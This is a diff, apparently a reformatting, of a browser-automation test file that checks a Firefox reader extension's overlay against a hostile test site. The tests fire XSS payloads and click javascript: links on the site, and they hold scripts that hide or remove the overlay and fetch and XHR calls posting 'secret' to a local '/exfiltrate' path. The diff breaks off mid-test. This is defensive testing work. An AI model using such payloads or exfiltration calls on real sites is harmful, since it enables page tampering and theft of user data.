@@ -14,10 +14,30 @@
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'puppeteer-core';
-import { OVERLAY_TAG, isOverlayOpen, launchFirefox, overlayEval, quietFor, waitForOverlay, waitUntil, type FirefoxSession } from './harness.js';
 import {
-  COVER_ATTACKS, COVER_RGB, IDS, attackScript, clearFlags, coverShown, flags, liveScriptInOverlay, pixelAt,
-  recordClicks, saveButtonCenter, serveHostileSite, type HostileSite,
+  OVERLAY_TAG,
+  isOverlayOpen,
+  launchFirefox,
+  overlayEval,
+  quietFor,
+  waitForOverlay,
+  waitUntil,
+  type FirefoxSession,
+} from './harness.js';
+import {
+  COVER_ATTACKS,
+  COVER_RGB,
+  IDS,
+  attackScript,
+  clearFlags,
+  coverShown,
+  flags,
+  liveScriptInOverlay,
+  pixelAt,
+  recordClicks,
+  saveButtonCenter,
+  serveHostileSite,
+  type HostileSite,
 } from './hostile-checks.js';
 
 let firefox: FirefoxSession;
@@ -37,7 +57,9 @@ afterAll(async () => {
 });
 
 const opened: Page[] = [];
-afterEach(async () => { await Promise.all(opened.splice(0).map((p) => p.close().catch(() => {}))); });
+afterEach(async () => {
+  await Promise.all(opened.splice(0).map((p) => p.close().catch(() => {})));
+});
 
 async function open(p: string): Promise<Page> {
   const page = await firefox.browser.newPage();
@@ -56,9 +78,16 @@ describe('hostile pages in Firefox ESR', () => {
     const page = await open('/news/2024/05/01/council-budget.html');
     const atLoad = ['script', 'img_onerror', 'svg_onload', 'details_ontoggle', 'iframe_srcdoc'];
     // Control: the payloads fire on the page itself (iframes, toggle events fire after load).
-    await waitUntil(async () => { const f = await flags(page); return atLoad.every((id) => f.includes(id)); }, `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`).catch(() => {});
+    await waitUntil(
+      async () => {
+        const f = await flags(page);
+        return atLoad.every((id) => f.includes(id));
+      },
+      `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`,
+    ).catch(() => {});
     await page.evaluate(() => {
-      for (const a of Array.from(document.querySelectorAll('a'))) if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
+      for (const a of Array.from(document.querySelectorAll('a')))
+        if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
     });
     // (Which clicked javascript: links fire differs by Firefox version; only logged.)
     await quietFor(300, 'the clicked javascript: links that are live in this Firefox fire by now (for the log only)');
@@ -71,14 +100,19 @@ describe('hostile pages in Firefox ESR', () => {
     await clearFlags(page);
     const before = requests.length;
     await firefox.clickAction(page);
-    expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(/Paragraph [1-5]: the city council/);
+    expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(
+      /Paragraph [1-5]: the city council/,
+    );
     expect(await liveScriptInOverlay(page)).toEqual([]);
-    await quietFor(800, 'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now');
+    await quietFor(
+      800,
+      'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now',
+    );
     expect(await flags(page)).toEqual([]);
     expect(requests.slice(before).filter((u) => u.startsWith('/evil/'))).toEqual([]);
   });
 
-  it('page script cannot work the reader\'s controls, close it with a synthetic Escape or a forged takeover, or hide it', async () => {
+  it("page script cannot work the reader's controls, close it with a synthetic Escape or a forged takeover, or hide it", async () => {
     await firefox.extensionEval('async () => { await browser.storage.sync.remove("readerSettings"); }');
     const page = await open('/news/plain.html');
     await firefox.clickAction(page);
@@ -87,24 +121,40 @@ describe('hostile pages in Firefox ESR', () => {
       const found: string[] = [];
       for (const id of ['save', 'autoclean-always', 'autoclean-never']) {
         const b = root?.querySelector<HTMLButtonElement>(`button[data-action="${id}"]`);
-        if (b) { b.click(); found.push(id); }
+        if (b) {
+          b.click();
+          found.push(id);
+        }
       }
       root?.querySelector<HTMLButtonElement>('button.aa')?.click();
       const dark = root?.querySelector<HTMLInputElement>('input[value="dark"]');
-      if (dark) { dark.click(); dark.checked = true; dark.dispatchEvent(new Event('change', { bubbles: true })); found.push('theme'); }
+      if (dark) {
+        dark.click();
+        dark.checked = true;
+        dark.dispatchEvent(new Event('change', { bubbles: true }));
+        found.push('theme');
+      }
       const close = root?.querySelector<HTMLButtonElement>('button.close');
-      if (close) { close.click(); found.push('close'); }
+      if (close) {
+        close.click();
+        found.push('close');
+      }
       document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
       document.dispatchEvent(new CustomEvent('dateline-reader:takeover'));
       return found;
     }, OVERLAY_TAG);
     expect(pressed).toEqual(['save', 'autoclean-always', 'autoclean-never', 'theme', 'close']);
-    await quietFor(1000, 'a scripted press that worked would have closed the reader, saved, or stored a setting by now');
+    await quietFor(
+      1000,
+      'a scripted press that worked would have closed the reader, saved, or stored a setting by now',
+    );
     expect(await isOverlayOpen(page)).toBe(true);
-    expect(await overlayEval(page, (root) => ({
-      theme: (root.querySelector('.reader') as HTMLElement).dataset.theme,
-      status: root.querySelector('.status')?.textContent ?? '',
-    }))).toEqual({ theme: 'auto', status: '' });
+    expect(
+      await overlayEval(page, (root) => ({
+        theme: (root.querySelector('.reader') as HTMLElement).dataset.theme,
+        status: root.querySelector('.status')?.textContent ?? '',
+      })),
+    ).toEqual({ theme: 'auto', status: '' });
     const state = await firefox.extensionEval<{ settings: unknown; autoclean: string }>(`async () => ({
       settings: (await browser.storage.sync.get('readerSettings')).readerSettings ?? null,
       autoclean: JSON.stringify((await browser.storage.local.get('autoclean')).autoclean ?? {}),
@@ -113,13 +163,24 @@ describe('hostile pages in Firefox ESR', () => {
     expect(state.autoclean).not.toContain('127.0.0.1');
 
     // Taking it off the screen after it opened: each is undone without a click.
-    const visible = (): Promise<boolean> => overlayEval(page, (root, host) => host.isConnected
-      && host.checkVisibility({ opacityProperty: true, visibilityProperty: true })
-      && getComputedStyle(document.documentElement).display !== 'none'
-      && (root.querySelector('.article-body')?.getBoundingClientRect().height ?? 0) > 100).catch(() => false);
+    const visible = (): Promise<boolean> =>
+      overlayEval(
+        page,
+        (root, host) =>
+          host.isConnected &&
+          host.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
+          getComputedStyle(document.documentElement).display !== 'none' &&
+          (root.querySelector('.article-body')?.getBoundingClientRect().height ?? 0) > 100,
+      ).catch(() => false);
     const attacks: [string, string][] = [
-      ['a stylesheet hiding <html>', `(() => { const s = document.createElement('style'); s.textContent = 'html { display: none !important; }'; document.body.append(s); })()`],
-      ['the host restyled inline', `document.documentElement.querySelector(':scope > ${OVERLAY_TAG}').style.setProperty('display', 'none', 'important')`],
+      [
+        'a stylesheet hiding <html>',
+        `(() => { const s = document.createElement('style'); s.textContent = 'html { display: none !important; }'; document.body.append(s); })()`,
+      ],
+      [
+        'the host restyled inline',
+        `document.documentElement.querySelector(':scope > ${OVERLAY_TAG}').style.setProperty('display', 'none', 'important')`,
+      ],
       ['the host removed', `document.documentElement.querySelector(':scope > ${OVERLAY_TAG}').remove()`],
     ];
     for (const [name, attack] of attacks) {
@@ -178,19 +239,29 @@ describe('hostile pages in Firefox ESR', () => {
       expect(await page.evaluate(() => (window as unknown as { __coverClicks: number }).__coverClicks), id).toBe(0);
       if (!library) {
         await expect.poll(status, { timeout: 15_000, message: id }).toMatch(/Saved|Updated|already/i);
-        await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
+        await overlayEval(page, (root) => {
+          root.querySelector('.status')!.textContent = '';
+        });
         await expect.poll(saveLabel, { message: id }).toBe('Saved ✓');
       } else {
         const lib = (await (await library).page())!;
         opened.push(lib);
-        const titles = (): Promise<string[] | null> => lib.evaluate((want) => (location.href === want
-          && document.body?.dataset.state === 'ready'
-          ? Array.from(document.querySelectorAll('#list li .title'), (e) => (e.textContent ?? '').trim())
-          : null), firefox.extensionBase + 'library.html').catch(() => null);
+        const titles = (): Promise<string[] | null> =>
+          lib
+            .evaluate(
+              (want) =>
+                location.href === want && document.body?.dataset.state === 'ready'
+                  ? Array.from(document.querySelectorAll('#list li .title'), (e) => (e.textContent ?? '').trim())
+                  : null,
+              firefox.extensionBase + 'library.html',
+            )
+            .catch(() => null);
         await expect.poll(titles, { timeout: 15_000, message: id }).toContain('Plain story about the harbour');
         await lib.close();
-        expect(await firefox.extensionEval<string[]>('async () => (await browser.tabs.query({})).map((t) => t.url ?? "")'), id)
-          .not.toContain(firefox.extensionBase + 'library.html');
+        expect(
+          await firefox.extensionEval<string[]>('async () => (await browser.tabs.query({})).map((t) => t.url ?? "")'),
+          id,
+        ).not.toContain(firefox.extensionBase + 'library.html');
         // The next attack runs on the tab the user is looking at.
         await page.bringToFront();
       }
@@ -203,17 +274,28 @@ describe('hostile pages in Firefox ESR', () => {
       opened.push(ext);
       // page.goto('moz-extension://…') loads but never resolves (browser-testing.md): poll instead.
       void ext.goto(firefox.extensionBase + file).catch(() => {});
-      expect(await until(() => ext.evaluate(() => location.protocol === 'moz-extension:'
-        && document.readyState === 'complete'), 10_000)).toBe(true);
+      expect(
+        await until(
+          () => ext.evaluate(() => location.protocol === 'moz-extension:' && document.readyState === 'complete'),
+          10_000,
+        ),
+      ).toBe(true);
       const before = requests.length;
       const result = await ext.evaluate(async (o) => {
-        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
-          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' }).then(
+          () => 'sent',
+          (e: Error) => `refused: ${e.name}`,
+        );
         const xhr = await new Promise<string>((resolve) => {
           const x = new XMLHttpRequest();
           x.onload = () => resolve('sent');
           x.onerror = () => resolve('refused');
-          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+          try {
+            x.open('GET', `${o}/exfiltrate?xhr`);
+            x.send();
+          } catch {
+            resolve('refused');
+          }
         });
         const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
         const data = await new Promise<number>((resolve) => {
